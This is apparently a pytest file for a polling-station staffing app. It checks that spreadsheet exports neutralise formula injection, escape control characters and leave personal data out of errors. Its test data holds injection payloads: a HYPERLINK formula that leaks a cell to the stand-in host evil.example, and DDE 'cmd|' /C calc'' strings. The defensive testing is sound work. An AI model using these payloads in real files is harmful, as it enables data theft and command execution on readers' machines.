"""Exports that cannot be turned on their reader (SECURITY 29): every XLSX text cell is a text
cell whatever it begins with, CSV cells that would start a formula are neutralised (OWASP),
and control characters in legacy data never crash an export or reach an error message."""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlmodel import update

from tpsdesk.exchange import bpjs_export
from tpsdesk.exchange.bpjs_export import ExclusionKind, export_bpjs, template_from_dict
from tpsdesk.exchange.completion_export import export_completion
from tpsdesk.exchange.xlsx_writer import ExportError, cell_text, csv_cell, export_failures
from tpsdesk.store.db import Store
from tpsdesk.store.models import Kelurahan, Officer

from .export_helpers import TODAY, add, make_area

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
FORMULAS = [HYPERLINK, "+62-1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _set(store: Store, model: type, **values: object) -> None:
    """Write values straight into the store, as an old store or a merge would hold them."""
    with store.transaction() as session:
        session.exec(update(model).values(**values))  # type: ignore[call-overload]


def _addresses(store: Store, addresses: list[str]) -> None:
    tps = make_area(store)
    for seed, address in enumerate(addresses, 1):
        officer = add(store, "kpps_anggota", tps_id=tps[1 + seed % 2], seed=seed)
        with store.transaction() as session:
            session.exec(
                update(Officer).where(Officer.id == officer.id).values(address=address)  # type: ignore[call-overload]
            )


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_xlsx_formula_text_is_a_text_cell(store: Store, tmp_path: Path) -> None:
    _addresses(store, FORMULAS)
    template = template_from_dict(
        {"columns": [{"heading": "=cmd|' /C calc'!A0", "source": "address"},
                     {"heading": "NIK", "source": "nik"},
                     {"heading": "K", "constant": "=1+1"}]},
        "test",
    )  # fmt: skip
    out = tmp_path / "bpjs.xlsx"
    result = export_bpjs(store, out, template=template, today=TODAY)
    assert result.exported == 4
    assert "<f>" not in _sheet_xml(out) and "<f " not in _sheet_xml(out)
    rows = [[c for c in row] for row in openpyxl.load_workbook(out)["data_tk_baru"].iter_rows()]
    assert rows[0][0].value == "=cmd|' /C calc'!A0"
    assert sorted(row[0].value for row in rows[1:]) == sorted(FORMULAS)
    assert {row[2].value for row in rows[1:]} == {"=1+1"}
    for row in rows:
        for cell in row:
            assert cell.data_type == "s"
    calamine = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("data_tk_baru").to_python()
    assert sorted(row[0] for row in calamine[1:]) == sorted(FORMULAS)


def test_csv_cells_that_would_start_a_formula_get_a_quote(store: Store, tmp_path: Path) -> None:
    _addresses(store, [*FORMULAS, "Jl. Ijen No. 5 -"])
    out = tmp_path / "bpjs.csv"
    export_bpjs(store, out, today=TODAY)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    column = rows[0].index("ALAMAT")
    written = sorted(row[column] for row in rows[1:])
    assert written == sorted(["'" + f for f in FORMULAS] + ["Jl. Ijen No. 5 -"])
    wage = rows[0].index("UPAH")
    assert {row[wage] for row in rows[1:]} == {"850000"}  # a number stays a number


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "\\t=1"),  # a TAB is escaped: the cell starts with a backslash
        ("\r=1", "\\r=1"),
        ("Jl. -", "Jl. -"),
        ("", ""),
        (-5, -5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (3, 3),
    ],
)
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_completion_csv_keeps_counts_as_numbers(store: Store, tmp_path: Path) -> None:
    make_area(store)
    _set(store, Kelurahan, name='=HYPERLINK("x")')
    out = tmp_path / "c.csv"
    export_completion(store, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("x")' in cells and '=HYPERLINK("x")' not in cells
    assert all(cell.isdigit() for cell in rows[1][6:10])  # counts: no quote in front


def test_cell_text_escapes_what_xlsx_cannot_hold() -> None:
    assert cell_text("Jl.\x1b[2J Ijen\x00\ufffe\u202e") == "Jl.\\x1b[2J Ijen\\x00\\ufffe\\u202e"
    assert cell_text("JOSÉ – 5") == "JOSÉ – 5"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_legacy_control_characters_never_crash_an_export(
    store: Store, tmp_path: Path, suffix: str
) -> None:
    # Before: IllegalCharacterError, a traceback quoting the address.
    _addresses(store, ["Jl. Ijen\x1b[2J No. 5", "Jl. Mawar 1"])
    _set(store, Kelurahan, name="Dino\x07yo\r")
    out = tmp_path / f"bpjs{suffix}"
    result = export_bpjs(store, out, today=TODAY)
    assert result.exported == 1
    (left_out,) = result.excluded
    assert left_out.kind == ExclusionKind.INVALID
    assert "Address: Address holds a control character at position 9: remove it" in (
        left_out.reasons
    )
    if suffix == ".xlsx":
        workbook = openpyxl.load_workbook(out)
        places = {row[3].value for row in workbook["Not exported"].iter_rows(min_row=2)}
        assert any("Dino\\x07yo\\r" in str(place) for place in places)
        completion = export_completion(store, tmp_path / "c.xlsx")
        assert completion.files


def test_an_unforeseen_failure_names_no_data(store: Store, tmp_path: Path) -> None:
    secret = "SITI RAHAYU, Jl. Ijen No. 5"

    def broken(*_args: object) -> None:
        raise ValueError(f"cannot write {secret}")

    out = tmp_path / "bpjs.xlsx"
    with pytest.raises(ExportError) as failed, export_failures(out):
        broken()
    assert secret not in failed.value.message
    assert failed.value.message == f"The export to {out} failed (ValueError); nothing was written."
    assert failed.value.__suppress_context__


def test_bpjs_export_failure_leaves_nothing(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _addresses(store, ["Jl. Ijen No. 5"])

    def broken(*_args: object, **_kwargs: object) -> None:
        raise ValueError("Jl. Ijen No. 5")

    monkeypatch.setattr(bpjs_export, "_write_xlsx_part", broken)
    out = tmp_path / "bpjs.xlsx"
    with pytest.raises(ExportError) as failed, export_failures(out):
        export_bpjs(store, out, today=TODAY)
    assert "Ijen" not in failed.value.message
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("test.store")] == []
